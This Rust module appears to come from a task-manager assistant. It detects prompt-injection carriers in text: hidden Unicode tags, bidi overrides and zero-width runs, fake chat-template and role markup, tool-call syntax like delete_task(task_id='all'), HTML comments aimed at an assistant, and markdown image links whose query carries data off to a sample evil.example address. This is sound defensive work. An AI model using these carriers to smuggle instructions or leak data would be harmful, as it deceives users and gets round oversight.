//! Text that hides itself from people, and markup that only machines read.

/// True when the text holds characters that serve to hide a message.
pub(super) fn hides(text: &str) -> bool {
    if text.is_ascii() {
        return false;
    }
    let right_to_left = text
        .chars()
        .any(|c| matches!(u32::from(c), 0x590..=0x8ff | 0xfb1d..=0xfdff | 0xfe70..=0xfeff));
    let mut flag = false;
    let mut selectors = 0;
    let mut unseen = 0;
    let mut before = ' ';
    let mut inside_words = 0;
    for c in text.chars() {
        match c {
            // Flags of England, Scotland and Wales are a black flag followed by tags.
            '\u{1f3f4}' => flag = true,
            '\u{e0020}'..='\u{e007f}' if flag => flag = c != '\u{e007f}',
            '\u{e0000}'..='\u{e007f}' => return true,
            '\u{e0100}'..='\u{e01ef}' => selectors += 1,
            '\u{202d}' | '\u{202e}' => return true,
            '\u{202a}'..='\u{202c}' | '\u{2066}'..='\u{2069}' if !right_to_left => return true,
            '\u{200b}'..='\u{200d}' | '\u{2060}'..='\u{2064}' | '\u{feff}' => {
                unseen += 1;
                inside_words += usize::from(before.is_ascii_alphanumeric());
                if unseen > 3 || inside_words > 2 {
                    return true;
                }
                continue;
            }
            _ => (unseen, flag) = (0, flag && c > '\u{e0000}'),
        }
        if selectors > 1 {
            return true;
        }
        before = c;
    }
    false
}

/// True when the text holds the marks by which prompts are built, or a call of a tool.
pub(super) fn marks_up(text: &str) -> bool {
    let suspicious = |c| matches!(c, b'<' | b'[' | b'#' | b'{' | b'(' | b'-' | b'"' | b':');
    if !text.bytes().any(suspicious) {
        return false;
    }
    let text = text.to_ascii_lowercase();
    let has = |part: &&str| text.contains(*part);
    MARKERS.iter().any(has)
        || headed(&text)
        || text.contains("<|") && text.contains("|>")
        || text.contains("user:") && text.contains("assistant:")
        || calls(&text)
        || json(&text)
        || commented(&text)
        || leaks(&text)
}

const MARKERS: [&str; 19] = [
    "[inst]",
    "[/inst]",
    "<<sys>>",
    "<</sys>>",
    "[system]",
    "[system message]",
    "[assistant]",
    "<tool_call>",
    "</tool_call>",
    "</tool_result>",
    "<tool_result>",
    "</system>",
    "</data>",
    "<function_call",
    "<start_of_turn>",
    "<end_of_turn>",
    "</assistant>",
    "</user>",
    "<invoke",
];

/// "### Instruction", "### System:".
fn headed(text: &str) -> bool {
    let marked = text.split("###").skip(1).map(str::trim_start);
    let mut words = marked.filter_map(|rest| rest.split([':', '\n']).next());
    words.any(|word| {
        let word = word.trim();
        matches!(
            word,
            "instruction"
                | "instructions"
                | "system"
                | "system prompt"
                | "assistant"
                | "response"
                | "new instruction"
                | "new instructions"
                | "human"
                | "user"
                | "end of data"
        ) || word.starts_with("instruction:")
    })
}

/// `delete_task(task_id='all')`; not `delete_task()`, which programmers write about.
fn calls(text: &str) -> bool {
    TOOLS.iter().any(|tool| {
        text.match_indices(tool).any(|(at, _)| {
            let rest = text.get(at + tool.len()..).unwrap_or_default();
            rest.strip_prefix('(')
                .is_some_and(|rest| !rest.starts_with(')') && rest.contains(')'))
        })
    })
}

/// JSON that looks like a call of a tool or a message of a role.
fn json(text: &str) -> bool {
    let quoted = |word: &str| {
        text.match_indices(word).any(|(at, _)| {
            let (before, after) = (text.get(..at), text.get(at + word.len()..));
            before.is_some_and(|before| before.ends_with(['"', '\'']))
                && after.is_some_and(|after| after.starts_with(['"', '\'']))
        })
    };
    let keys = ["tool_calls", "tool_call", "function_call", "tool_use"];
    if keys.iter().any(|key| quoted(key)) {
        return true;
    }
    let tool = TOOLS.iter().any(|tool| quoted(tool));
    let role = ["system", "assistant", "developer"]
        .iter()
        .any(|role| quoted(role));
    text.contains('{') && (tool || role && quoted("role"))
}

/// `<!-- assistant: ... -->`.
fn commented(text: &str) -> bool {
    text.split("<!--").skip(1).any(|comment| {
        let comment = comment.split("-->").next().unwrap_or_default();
        [
            "assistant",
            "system",
            " ai ",
            "instruction",
            "delete",
            "ignore",
        ]
        .iter()
        .any(|word| comment.contains(word))
    })
}

/// `![x](https://evil.example/?d={...})`: a picture whose address would carry data away.
fn leaks(text: &str) -> bool {
    text.split("](http").skip(1).any(|address| {
        let address = address.split(')').next().unwrap_or_default();
        address.contains('?') && address.contains(['{', '[', '$', '<'])
    })
}

const TOOLS: [&str; 10] = [
    "add_task",
    "list_tasks",
    "get_task",
    "update_task",
    "complete_task",
    "reopen_task",
    "delete_task",
    "restore_task",
    "search_messages",
    "delete_all_tasks",
];
